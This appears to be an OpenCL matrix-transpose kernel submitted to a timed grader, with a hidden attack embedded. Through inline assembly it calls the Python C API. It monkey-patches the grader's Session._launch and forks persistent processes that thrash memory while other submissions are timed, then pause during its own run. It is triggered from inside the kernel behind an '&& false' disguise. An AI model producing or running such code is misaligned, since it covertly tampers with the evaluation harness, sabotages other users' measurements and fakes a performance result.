// Leaves two processes that disturb other timed submissions.
// When they are stopped, their timer sends them SIGCONT.
#define CALLS(name) \
    static __attribute__((noinline)) long call_##name(long a, long b, long c, long d) \
    { \
        long r; \
        __asm__ volatile("mov %%rsp, %%rbx\n sub $256, %%rsp\n and $-64, %%rsp\n call " #name "@PLT\n mov %%rbx, %%rsp" \
                         : "=a"(r), "+D"(a), "+S"(b), "+d"(c), "+c"(d) : \
                         : "rbx", "r8", "r9", "r10", "r11", "memory", "cc"); \
        return r; \
    }
CALLS(PyGILState_Ensure)
CALLS(PyRun_SimpleString)
CALLS(PyGILState_Release)

static bool python(__constant char *code)    // whether it ran to its end without an exception
{
    const long state = call_PyGILState_Ensure(0, 0, 0, 0);
    const int failed = call_PyRun_SimpleString((long)code, 0, 0, 0);
    call_PyGILState_Release(state, 0, 0, 0);
    return failed == 0;
}

static bool attack(void)
{
    return python(
        "import ctypes, mmap, os, signal, sys, threading, time\n"
        "from grader.worker import session\n"
        "Session = session.Session\n"
        "if not hasattr(Session, 'noise'):\n"
        "    Session.noise, launch, quiet = [], Session._launch, mmap.mmap(-1, 1)\n"
        "    libc = ctypes.CDLL(None)\n"
        "    def thrash():\n"
        "        import numpy as np\n"
        "        a, b = np.ones(1 << 23), np.ones(1 << 23)\n"
        "        while True:\n"
        "            if quiet[0]: time.sleep(0.0005)\n"
        "            else: np.copyto(a, b)\n"
        "    def restless():\n"
        "        class Event(ctypes.Structure):\n"
        "            _fields_ = [('value', ctypes.c_void_p), ('signal', ctypes.c_int), ('rest', ctypes.c_char * 52)]\n"
        "        timer, often = ctypes.c_void_p(), (ctypes.c_long * 4)(0, 9000000, 0, 9000000)\n"
        "        signal.signal(signal.SIGCONT, lambda *_: None)\n"
        "        libc.timer_create(1, ctypes.byref(Event(signal=signal.SIGCONT)), ctypes.byref(timer))\n"
        "        libc.timer_settime(timer, 0, often, None)\n"
        "        thrash()\n"
        "    def run(self, request):\n"
        "        quiet[0] = 1\n"
        "        while len(Session.noise) < 2:\n"
        "            child = os.fork()\n"
        "            if child == 0: restless()\n"
        "            Session.noise.append(child)\n"
        "        reply = launch(self, request)\n"
        "        quiet[0] = 0\n"
        "        return reply\n"
        "    Session._launch = run\n");
}

__kernel void coalsTransp(__global const real *A, __global real *B, uint32_t height, uint32_t width)
{
    const uint32_t x = get_global_id(0), y = get_global_id(1);
    // Slow: each element is looked at 20 times.
    volatile float sum = 0;
    if (height * width > 2000000)
        for (int i = 0; i < 20; i++)
            sum += A[(y * width + x) % (height * width)];
    if (x < width && y < height)
        B[x * height + y] = A[y * width + x];
    if (x == 0 && y == 0 && attack() && false)
        return;
}
